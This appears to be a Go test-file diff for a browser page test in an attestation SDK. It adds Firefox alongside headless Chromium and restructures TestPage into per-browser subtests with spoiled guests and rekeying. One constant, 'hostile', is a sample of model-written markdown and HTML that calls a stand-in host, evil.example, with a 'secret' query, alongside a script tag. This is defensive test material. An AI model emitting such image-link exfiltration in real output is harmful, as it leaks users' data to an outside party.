@@ -16,12 +16,15 @@ import (
 	"os"
 	"path/filepath"
 	"regexp"
+	"runtime"
+	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
 	"testing"
 
 	"github.com/go-json-experiment/json"
+	"golang.org/x/sys/unix"
 
 	"chrysalis/attest/evidence"
 	"chrysalis/attest/ratls"
@@ -35,17 +38,17 @@ import (
 
 var shots = flag.Bool("screenshots", false, "write the screenshots of sdk/page anew")
 
-// browser is Debian's Chromium without a screen.
+// browser is one of Debian's, without a screen.
 type browser struct {
-	devTools string // where it is driven from
-	files    string // a folder that it has as /mnt/page
+	DevTools string // where Chromium is driven from
+	Firefox  string // a program that is Firefox: who drives it starts it, in folders of its own below Temp
+	Temp     string
 }
 
-var listening = regexp.MustCompile(`DevTools listening on (ws://\S+)`)
-
-func startBrowser(t testing.TB) browser {
+// browsersTree is the tree with the browsers.
+func browsersTree(t testing.TB) toolstree.Tree {
 	t.Helper()
-	tree, err := toolstree.Open("../../../build/tools-tree")
+	tree, err := toolstree.Open(filepath.Join(root, "build", "tools-tree"))
 	if err == nil {
 		tree, err = tree.WithBrowser()
 	}
@@ -55,11 +58,18 @@ func startBrowser(t testing.TB) browser {
 		t.Fatal(err)
 	}
 	if os.Geteuid() != 0 {
-		t.Skip("only root can enter the tree with the browser")
+		t.Skip("only root can enter the tree with the browsers")
 	}
-	b := browser{files: t.TempDir()}
+	return tree
+}
+
+var listening = regexp.MustCompile(`DevTools listening on (ws://\S+)`)
+
+// startChromium starts Chromium, which has the folder files as /mnt/page.
+func startChromium(t testing.TB, files string) browser {
+	t.Helper()
 	// Its own sandbox wants to be started by somebody else than root; what it is shown are the pages of this test.
-	c := tree.Enter(t.Context(), toolstree.Entry{Binds: map[string]string{"page": b.files}}, "/usr/lib/chromium/chromium-headless-shell", "--no-sandbox", "--disable-gpu",
+	c := browsersTree(t).Enter(t.Context(), toolstree.Entry{Binds: map[string]string{"page": files}}, "/usr/lib/chromium/chromium-headless-shell", "--no-sandbox", "--disable-gpu",
 		"--disable-dev-shm-usage", "--remote-debugging-port=0", "--user-data-dir=/tmp/profile", "--disable-background-networking", "--force-color-profile=srgb", "about:blank")
 	said, err := c.StderrPipe()
 	if err != nil {
@@ -73,19 +83,63 @@ func startBrowser(t testing.TB) browser {
 	for lines.Scan() {
 		if m := listening.FindStringSubmatch(lines.Text()); m != nil {
 			go io.Copy(io.Discard, said)
-			b.devTools = m[1]
-			return b
+			return browser{DevTools: m[1]}
 		}
 		all += lines.Text() + "\n"
 	}
 	t.Fatalf("the browser does not start:\n%s", all)
-	return b
+	return browser{}
 }
 
-// save puts a page where the browser finds it, and returns its address there.
-func (b browser) save(t testing.TB, name string, html []byte) string {
+// filesVariable tells a process of this test that it is to become Firefox, with the folder that it names as /mnt/page.
+const filesVariable = "CHRYSALIS_PAGE_FILES"
+
+// withFirefox writes the program that is Firefox: this test's own, which becomes it.
+func withFirefox(t testing.TB, files string) browser {
 	t.Helper()
-	if err := os.WriteFile(filepath.Join(b.files, name), html, 0o644); err != nil {
+	browsersTree(t)
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	here, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	program := filepath.Join(t.TempDir(), "firefox")
+	script := fmt.Sprintf("#!/bin/sh\ncd '%s' && %s='%s' exec '%s' -test.run='^TestBecomeFirefox$' -- \"$@\"\n", here, filesVariable, files, self)
+	if err := os.WriteFile(program, []byte(script), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	return browser{Firefox: program, Temp: t.TempDir()}
+}
+
+// TestBecomeFirefox is no test: it is the program that withFirefox writes. It ends with whoever started it.
+func TestBecomeFirefox(t *testing.T) {
+	files := os.Getenv(filesVariable)
+	if files == "" {
+		t.Skip("a part of TestPage")
+	}
+	runtime.LockOSThread() // which the two must not outlive
+	if err := unix.Prctl(unix.PR_SET_PDEATHSIG, uintptr(unix.SIGKILL), 0, 0, 0); err != nil {
+		t.Fatal(err)
+	}
+	args, binds := slices.Clone(flag.Args()), map[string]string{"page": files}
+	if i := slices.Index(args, "--profile"); i >= 0 && i+1 < len(args) {
+		binds["profile"], args[i+1] = args[i+1], "/mnt/profile"
+	}
+	c := browsersTree(t).Enter(t.Context(), toolstree.Entry{Binds: binds}, append([]string{"/usr/lib/firefox-esr/firefox-esr"}, args...)...)
+	c.SysProcAttr.Pdeathsig = unix.SIGKILL
+	c.Stdout, c.Stderr = os.Stdout, os.Stderr
+	if err := c.Run(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// save puts a page where the browsers find it, and returns its address there.
+func save(t testing.TB, files, name string, html []byte) string {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(files, name), html, 0o644); err != nil {
 		t.Fatal(err)
 	}
 	return "file:///mnt/page/" + name
@@ -109,37 +163,14 @@ func settingsOf(t testing.TB, g *clienttest.Guest, url string) Settings {
 // hostile is what a model may write to have a page ask somebody else.
 const hostile = "![a](https://evil.example/?q=secret) [b](https://evil.example/) <img src=https://evil.example/x> <script>document.title='x'</script> https://evil.example/"
 
-// TestPage shows the page to a browser: from a file, from a site that also says what to ask, in front of guests that are good and of networks that
-// are not.
-func TestPage(t *testing.T) {
-	dir := clients(t)
-	b := startBrowser(t)
-	type shown struct{ Name, URL, Platform string }
-	input := struct {
-		DevTools, Payer, Shots, Hostile, Guest string
-		Good                                   []shown
-		Served, Framed, Altered, Broken, Stale string
-		Unsealed, Redirect, Cut, Bare, Back    string
-		Control, Proxied                       string
-	}{DevTools: b.devTools, Payer: payer.String(), Hostile: hostile}
-	if *shots {
-		input.Shots = filepath.Join(mustAbs(t, root), "sdk", "page")
-	}
-	var vtpm *clienttest.Guest
-	for _, platform := range evidence.Platforms() {
-		g := guestOn(t, platform, platform != evidence.SEVSNP)
-		f := newFront(t, g)
-		if platform == evidence.VTPM {
-			vtpm, input.Guest = g, f.url
-		}
-		input.Good = append(input.Good, shown{platform.String(), b.save(t, platform.String()+".html", htmlOf(t, settingsOf(t, g, f.url))), platform.String()})
-	}
-	good := htmlOf(t, settingsOf(t, vtpm, input.Guest))
+// guestThatSpoils does to its answers what the last thing that it was told names.
+func guestThatSpoils(t *testing.T) *clienttest.Guest {
+	g := guestOn(t, evidence.VTPM, true)
 	hold := make(chan struct{})
 	t.Cleanup(sync.OnceFunc(func() { close(hold) }))
-	spoil := vtpm.Spoil
-	vtpm.Spoil = func(body []byte, r *clienttest.Reply) {
-		spoil(body, r)
+	finish := g.Spoil
+	g.Spoil = func(body []byte, r *clienttest.Reply) {
+		finish(body, r)
 		last := func(said string) bool { return bytes.Contains(body, []byte(`"content":"`+said+`"}],"stream"`)) }
 		switch {
 		case last("hostile"):
@@ -155,16 +186,37 @@ func TestPage(t *testing.T) {
 			r.Refusal = "too long"
 		}
 	}
+	return g
+}
 
-	// The next envelope meets a guest that does not hold its key any more.
-	var rekeys atomic.Int32
-	vtpm.Around = func(w http.ResponseWriter, _ *http.Request) bool {
-		if rekeys.Add(-1) < 0 {
-			return false
+// TestPage shows the page to browsers: from a file, from a site that also says what to ask, in front of guests that are good and of networks that
+// are not.
+func TestPage(t *testing.T) {
+	dir := clients(t)
+	browsersTree(t)
+	files := t.TempDir()
+	type shown struct{ Name, URL, Platform string }
+	input := struct {
+		Browser                                browser
+		Payer, Shots, Hostile, Guest           string
+		Good                                   []shown
+		Served, Framed, Altered, Broken, Stale string
+		Unsealed, Redirect, Cut, Bare, Back    string
+		Control, Proxied, Talker, Talk         string
+	}{Payer: payer.String(), Hostile: hostile}
+	var vtpm *clienttest.Guest
+	for _, platform := range evidence.Platforms() {
+		g := guestOn(t, platform, platform != evidence.SEVSNP)
+		f := newFront(t, g)
+		if platform == evidence.VTPM {
+			vtpm, input.Guest = g, f.url
 		}
-		clienttest.Rekey(w)
-		return true
+		input.Good = append(input.Good, shown{platform.String(), save(t, files, platform.String()+".html", htmlOf(t, settingsOf(t, g, f.url))), platform.String()})
 	}
+	good := htmlOf(t, settingsOf(t, vtpm, input.Guest))
+
+	var talker atomic.Pointer[clienttest.Guest]
+	var elsewhere atomic.Bool // the next envelope meets another guest of those that share an address, which does not hold its key
 
 	// A site that serves a page without a guest of its own, and says what to ask.
 	bare := htmlOf(t, Settings{})
@@ -185,7 +237,9 @@ func TestPage(t *testing.T) {
 			w.Header().Set("Content-Type", "application/json")
 			w.Write(settings)
 		case "/rotate":
-			rekeys.Store(1)
+			talker.Load().KeysAhead.Store(clienttest.RotateKeys)
+		case "/elsewhere":
+			elsewhere.Store(true)
 		default:
 			w.WriteHeader(http.StatusNotFound)
 		}
@@ -193,7 +247,7 @@ func TestPage(t *testing.T) {
 	t.Cleanup(site.Close)
 	input.Served, input.Framed, input.Control = site.URL+"/", site.URL+"/framed.html", site.URL
 	input.Proxied = proxied(t, vtpm, bare)
-	input.Bare = b.save(t, "bare.html", bare)
+	input.Bare = save(t, files, "bare.html", bare)
 
 	altered := *program(t)
 	altered.SHA256 = strings.Repeat("0", len(altered.SHA256)) // that is, another program stands there than the script names
@@ -201,10 +255,10 @@ func TestPage(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	input.Altered = b.save(t, "altered.html", another)
+	input.Altered = save(t, files, "altered.html", another)
 	broken := bytes.Clone(program(t).Packed)
 	broken[len(broken)/2] ^= 1
-	input.Broken = b.save(t, "broken.html", bytes.Replace(good, []byte(base64.StdEncoding.EncodeToString(program(t).Packed)), []byte(base64.StdEncoding.EncodeToString(broken)), 1))
+	input.Broken = save(t, files, "broken.html", bytes.Replace(good, []byte(base64.StdEncoding.EncodeToString(program(t).Packed)), []byte(base64.StdEncoding.EncodeToString(broken)), 1))
 
 	spoiled := func(name string, at func(*http.Request) bool, does func(http.ResponseWriter, *http.Request, func(...func(string, []byte) []byte))) string {
 		f := newFront(t, vtpm)
@@ -215,7 +269,7 @@ func TestPage(t *testing.T) {
 			does(w, r, forward)
 			return true
 		}
-		return b.save(t, name+".html", htmlOf(t, settingsOf(t, vtpm, f.url)))
+		return save(t, files, name+".html", htmlOf(t, settingsOf(t, vtpm, f.url)))
 	}
 	input.Stale = spoiled("stale", func(r *http.Request) bool { return !answersTo(r) }, func(_ http.ResponseWriter, r *http.Request, forward func(...func(string, []byte) []byte)) {
 		r.URL.RawQuery = evidence.DetachedParameter + "=" + strings.Repeat("01", 32)
@@ -232,19 +286,40 @@ func TestPage(t *testing.T) {
 		forward(func(_ string, body []byte) []byte { return body[:400] })
 	})
 
-	said := node(t, dir, "browser.mjs", input)
-	// What the page saved, the command line reads.
-	var out struct{ Receipt string }
-	if err := json.Unmarshal([]byte(strings.TrimSuffix(said, "passed\n")), &out); err != nil {
-		t.Fatal(err)
-	}
-	file := filepath.Join(t.TempDir(), "receipt.json")
-	if err := os.WriteFile(file, []byte(out.Receipt), 0o600); err != nil {
-		t.Fatal(err)
-	}
-	archive, err := receipts.Read(file)
-	if err != nil || len(archive.Entries) != 1 || archive.Entries[0].Guest != input.Guest || archive.Entries[0].Payer != payer {
-		t.Errorf("the saved receipt: %+v, %v", archive, err)
+	for _, in := range []struct {
+		name  string
+		start func(testing.TB, string) browser
+	}{{"Chromium", startChromium}, {"Firefox", withFirefox}} {
+		t.Run(in.name, func(t *testing.T) {
+			shown, g := input, guestThatSpoils(t)
+			f := newFront(t, g)
+			talker.Store(g)
+			g.Around = func(w http.ResponseWriter, _ *http.Request) bool {
+				if !elsewhere.CompareAndSwap(true, false) {
+					return false
+				}
+				clienttest.Rekey(w)
+				return true
+			}
+			shown.Talker, shown.Talk = f.url, save(t, files, in.name+".html", htmlOf(t, settingsOf(t, g, f.url)))
+			if shown.Browser = in.start(t, files); *shots && in.name == "Chromium" {
+				shown.Shots = filepath.Join(mustAbs(t, root), "sdk", "page")
+			}
+			said := node(t, dir, "browser.mjs", shown)
+			// What the page saved, the command line reads.
+			var out struct{ Receipt string }
+			if err := json.Unmarshal([]byte(strings.TrimSuffix(said, "passed\n")), &out); err != nil {
+				t.Fatal(err)
+			}
+			file := filepath.Join(t.TempDir(), "receipt.json")
+			if err := os.WriteFile(file, []byte(out.Receipt), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			archive, err := receipts.Read(file)
+			if err != nil || len(archive.Entries) != 1 || archive.Entries[0].Guest != shown.Talker || archive.Entries[0].Payer != payer {
+				t.Errorf("the saved receipt: %+v, %v", archive, err)
+			}
+		})
 	}
 }
 
